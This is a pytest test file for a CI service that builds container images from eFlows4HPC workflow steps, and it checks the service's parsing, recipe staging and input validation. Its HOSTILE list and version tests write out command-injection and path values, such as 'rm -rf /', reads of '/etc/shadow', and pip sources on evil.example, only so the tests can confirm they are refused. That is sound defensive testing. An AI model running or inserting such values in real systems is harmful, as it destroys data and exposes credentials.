"""eFlows4HPC's step format: reading, grammars, the environment upstream's builder writes, the recipe, staging,
and the coercion of eFlows4HPC's request bodies. Folders only (the git registry is tested in integration)."""

from __future__ import annotations

import json
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml

from ci.errors import DefinitionError
from ci.service.eflows import grammar, step
from ci.service.eflows.registry import tag_of_version
from ci.service.eflows.requests import coerce
from ci.service.models import WorkflowRequest
from tests.support.eflows_fixtures import STEPS, write_files

MPI = SimpleNamespace(architecture="skylake_avx512", mpi="intel-mpi@2018", gpu=None)
GPU = SimpleNamespace(architecture="power9le", mpi="openmpi@4.0.0", gpu="cuda@10.2")
PLAIN = SimpleNamespace(architecture="zen2", mpi=None, gpu=None)
CONCRETIZER = {"unify": True, "reuse": True, "targets": {"granularity": "microarchitectures", "host_compatible": False}}


def folder_of(tmp_path: Path, name: str, files: dict[str, Any] | None = None) -> Path:
    root = tmp_path / name
    root.mkdir(parents=True)
    write_files(root, files if files is not None else STEPS[name])
    return root


@pytest.mark.parametrize("name", sorted(STEPS))
def test_every_fixture_step_reads(tmp_path: Path, name: str) -> None:
    read = step.read_step(folder_of(tmp_path, name))
    assert read.source.name in ("eflows4hpc.yaml", "spack.yaml")


def test_apt_only_and_pip_only(tmp_path: Path) -> None:
    apt = step.read_step(folder_of(tmp_path, "demo/apt_only"))
    assert apt.apt == ("jq", "less") and apt.pip == () and apt.spack is None
    assert step.environment(apt, MPI) is None  # no Spack section: the image is built without Spack
    pip = step.read_step(folder_of(tmp_path, "demo/pip_only"))
    assert pip.pip == ("six==1.16.0", "idna>=3") and pip.pip_from == "eflows4hpc.yaml" and pip.apt == ()


def test_requirements_txt_when_there_is_no_pip_section(tmp_path: Path) -> None:
    read = step.read_step(folder_of(tmp_path, "demo/requirements"))
    assert read.pip == ("six==1.16.0", "attrs>=23") and read.pip_from == "requirements.txt"
    with_section = folder_of(tmp_path, "both", {"eflows4hpc.yaml": {"pip": ["idna"]}, "requirements.txt": "six\n"})
    assert step.read_step(with_section).pip == ("idna",)


def test_the_environment_for_an_mpi_machine_field_by_field(tmp_path: Path) -> None:
    read = step.read_step(folder_of(tmp_path, "demo/spack_only"))
    env = step.environment(read, MPI)
    assert env is not None and list(env) == ["spack"]
    spack = env["spack"]
    assert spack["specs"] == ["hello@2.12", "proj@7.2.0 curl=False tiff=False", "gromacs@2022.3~mpi^fftw~mpi",
                              "intel-mpi@2018"]
    assert spack["packages"] == {"all": {"compiler": ["gcc@12"], "target": ["skylake_avx512"]}}
    assert spack["concretizer"] == CONCRETIZER
    assert spack["config"] == {"shared_linking": {"type": "runpath"}}
    assert spack["view"] == "/opt/view" and "repos" not in spack
    assert read.spack is not None and "view" not in read.spack  # the step itself is left alone


def test_the_environment_for_a_gpu_machine_and_with_a_catalog(tmp_path: Path) -> None:
    read = step.read_step(folder_of(tmp_path, "demo/all_three"))
    env = step.environment(read, GPU, catalog=True)
    assert env is not None
    assert env["spack"]["specs"] == ["hello@2.12", "mypkg@1.0", "openmpi@4.0.0", "cuda@10.2"]
    assert env["spack"]["packages"] == {"all": {"target": ["power9le"]}}
    assert env["spack"]["repos"] == ["/software-catalog"]


def test_packages_without_all_still_get_the_target(tmp_path: Path) -> None:
    # upstream drops the target here; the machine's target is what the image is for, so it is set anyway
    folder = folder_of(tmp_path, "t", {"eflows4hpc.yaml": {"spack": {"specs": ["zlib"],
                                                                      "packages": {"zlib": {"version": ["1.3"]}}}}})
    env = step.environment(step.read_step(folder), PLAIN)
    assert env is not None and env["spack"]["packages"] == {"zlib": {"version": ["1.3"]}, "all": {"target": ["zen2"]}}


def test_a_step_with_only_spack_yaml_keeps_working(tmp_path: Path) -> None:
    read = step.read_step(folder_of(tmp_path, "legacy/spack_file"))
    assert read.source.name == "spack.yaml"
    env = step.environment(read, PLAIN)
    assert env is not None and env["spack"]["specs"] == ["hello@2.12"] and env["spack"]["view"] == "/opt/view"


def test_the_recipe_runs_apt_spack_post_install_pip_activation_in_that_order(tmp_path: Path) -> None:
    staged = step.stage(step.read_step(folder_of(tmp_path, "demo/all_three")), MPI, tmp_path / "out",
                        step_name="all_three", base_image="builder:1", version="v2", platform="linux/amd64")
    recipe = staged.recipe
    marks = ["apt-get install", "-e . install", "bash ./post_inst.sh", "z10_spack_environment.sh", "pip install"]
    positions = [recipe.index(mark) for mark in marks]
    assert positions == sorted(positions)
    assert recipe.splitlines()[3] == "FROM builder:1" and "COPY step /all_three" in recipe
    out = tmp_path / "out"
    assert (out / "eflows4hpc" / "apt.txt").read_text() == "jq\npython3-pip\n"
    assert (out / "eflows4hpc" / "pip.txt").read_text() == "six==1.16.0\n"
    written = yaml.safe_load((out / "step" / "spack.yaml").read_text())
    assert written == staged.environment and (out / "step" / "post_inst.sh").is_file()
    assert yaml.safe_load((out / "container.yaml").read_text()) == {"version": "v2", "platforms": ["linux/amd64"],
                                                                     "tests": []}
    assert "jq" not in recipe and "six" not in recipe  # values reach apt and pip as files, never as shell text


def test_steps_without_spack_pip_or_apt_leave_those_instructions_out(tmp_path: Path) -> None:
    apt = step.stage(step.read_step(folder_of(tmp_path, "demo/apt_only")), PLAIN, tmp_path / "a",
                     step_name="apt_only", base_image="b", version="latest", platform="linux/amd64")
    assert "spack" not in apt.recipe.replace("spack-config", "") and "pip install" not in apt.recipe
    assert not (tmp_path / "a" / "step" / "spack.yaml").exists()
    spack_only = step.stage(step.read_step(folder_of(tmp_path, "demo/spack_only")), PLAIN, tmp_path / "s",
                            step_name="spack_only", base_image="b", version="latest", platform="linux/amd64")
    assert "apt-get" not in spack_only.recipe and "pip install" not in spack_only.recipe


def test_the_digest_follows_the_content_and_the_source(tmp_path: Path) -> None:
    read = step.read_step(folder_of(tmp_path, "demo/all_three"))

    def digest(machine: Any, source: dict[str, str], name: str) -> str:
        return step.stage(read, machine, tmp_path / name, step_name="s", base_image="b", version="latest",
                          platform="linux/amd64", source=source).digest

    first = digest(MPI, {"commit": "a" * 40}, "1")
    assert digest(MPI, {"commit": "a" * 40}, "2") == first
    assert digest(MPI, {"commit": "b" * 40}, "3") != first
    assert digest(GPU, {"commit": "a" * 40}, "4") != first


HOSTILE: list[tuple[dict[str, Any], str]] = [
    ({"apt": ["jq; rm -rf /"]}, "apt[0]"),
    ({"apt": ["--allow-unauthenticated"]}, "apt[0]"),
    ({"apt": ["../../etc/passwd"]}, "apt[0]"),
    ({"apt": "jq"}, "apt"),
    ({"apt": ["jq"] * (grammar.MAX_ENTRIES + 1)}, "apt"),
    ({"pip": ["--index-url=https://evil.example/simple"]}, "pip[0]"),
    ({"pip": ["-r /etc/shadow"]}, "pip[0]"),
    ({"pip": ["evil @ https://evil.example/evil.whl"]}, "pip[0]"),
    ({"pip": ["six==1.16.0 && curl evil"]}, "pip[0]"),
    ({"pip": ["six\n--index-url x"]}, "pip[0]"),
    ({"spack": {"specs": ["zlib; touch /pwned"]}}, "spack.specs[0]"),
    ({"spack": {"specs": ["$(id)"]}}, "spack.specs[0]"),
    ({"spack": {"specs": ["+cuda"]}}, "spack.specs[0]"),
    ({"spack": {"specs": ["zlib\x1b[31m"]}}, "spack.specs[0]"),
    ({"spack": {"specs": ["a" * 2000]}}, "spack.specs[0]"),
    ({"spack": {"specs": ["zlib"], "bogus": 1}}, "spack.bogus"),
    ({"spack": ["zlib"]}, "spack"),
    ({"extra": 1}, "extra"),
]


@pytest.mark.parametrize(("content", "field"), HOSTILE)
def test_hostile_values_are_refused_naming_the_field(tmp_path: Path, content: dict[str, Any], field: str) -> None:
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "eflows4hpc.yaml").write_text(json.dumps(content), encoding="utf-8")  # JSON is YAML
    with pytest.raises(DefinitionError) as caught:
        step.read_step(folder)
    assert any(problem.field == field for problem in caught.value.problems), caught.value.problems


def test_hostile_requirements_txt_and_files(tmp_path: Path) -> None:
    folder = folder_of(tmp_path, "r", {"eflows4hpc.yaml": {}, "requirements.txt": "six\n-r other.txt\nx \\\n"})
    with pytest.raises(DefinitionError) as caught:
        step.read_step(folder)
    assert [p.field for p in caught.value.problems] == ["line 2", "line 3"]
    bad = tmp_path / "bytes"
    bad.mkdir()
    (bad / "eflows4hpc.yaml").write_bytes(b"apt: [\xff\xfe]\n")
    with pytest.raises(DefinitionError, match="UTF-8"):
        step.read_step(bad)
    (bad / "eflows4hpc.yaml").write_text("apt: [jq\n", encoding="utf-8")
    with pytest.raises(DefinitionError, match="YAML"):
        step.read_step(bad)
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(DefinitionError, match=r"neither eflows4hpc\.yaml nor spack\.yaml"):
        step.read_step(empty)


def test_real_world_specs_pass_the_grammar() -> None:
    where = Path("x")
    for spec in ("kratos@9.4 apps=LinearSolversApplication,FluidDynamicsApplication", "exageostat@master+cuda",
                 "nlopt python=False", "physiboss_invasion", "fesom2@eflows4hpc+hecuba", "py-dislib@0.8.0",
                 "openmpi@4.1.5 fabrics=ucx %gcc@12", "hdf5@1.14:1.15 +mpi ^openmpi", "eflows4HPC.mypkg@1.0"):
        assert grammar.check_spec(spec, where, "s") == [], spec
    for requirement in ("boolean.py==4.0", "Mosek==9.3.15", "soupsieve==2.3.2.post1", "cmaboss==1.0.0b17",
                        "numpy>=1.24; python_version>='3.9'", "requests[socks]"):
        assert grammar.pip_requirement(requirement, where, "p")[1] == [], requirement
    for package in ("libmagick++-dev", "g++-8", "libtiff5-dev", "python3-yaml", "libc6:amd64", "jq=1.6-2.1"):
        assert grammar.check_apt(package, where, "a") == [], package


BASE_BODY: dict[str, Any] = {"machine": {"platform": "linux/amd64", "architecture": "skylake",
                                         "container_engine": "singularity"},
                             "workflow": "minimal_workflow", "step_id": "wordcount"}


@pytest.mark.parametrize(("given", "expected"), [("true", True), ("True", True), ("false", False), ("False", False),
                                                 (True, True), (False, False)])
def test_string_booleans_as_eflows_sends_them(given: Any, expected: bool) -> None:
    body = WorkflowRequest.model_validate(coerce({**BASE_BODY, "force": given, "push": given}))
    assert body.force is expected and body.push is expected


def test_other_spellings_and_platforms_are_refused_with_the_field() -> None:
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match="force"):
        WorkflowRequest.model_validate(coerce({**BASE_BODY, "force": "yes"}))
    with pytest.raises(DefinitionError) as caught:
        coerce({**BASE_BODY, "machine": {**BASE_BODY["machine"], "platform": "linux/ppc64le"}})
    assert caught.value.problems[0].field == "machine.platform"
    assert "not supported on this service" in caught.value.problems[0].message
    with pytest.raises(ValidationError, match="version"):  # a number is refused: 2.10 would be "2.1"
        WorkflowRequest.model_validate(coerce({**BASE_BODY, "version": 2}))


@pytest.mark.parametrize("version", ["main", "1.0", "v2", "release/2.0", "feature/x-y_z", "2024.06+build.1", "a/b/c"])
def test_branch_and_tag_names_git_allows_are_versions(version: str) -> None:
    assert grammar.check_version(version, Path("request body"), "version") == []


@pytest.mark.parametrize("version", ["../main", "-x", "--upload-pack=touch", "/main", "main/", "a//b", "a/.b", ".a",
                                     "a.lock", "a.lock/b", "a..b", "a b", "a\nb", "x" * 129, ""])
def test_names_git_refuses_or_that_could_be_options_are_not_versions(version: str) -> None:
    assert grammar.check_version(version, Path("request body"), "version") != []


@pytest.mark.parametrize(("version", "tag"), [("main", "main"), ("release/2.0", "release-2.0"),
                                               ("2024.06+build.1", "2024.06-build.1"), ("_x", "latest")])
def test_image_tags_of_versions(version: str, tag: str) -> None:
    assert tag_of_version(version) == tag
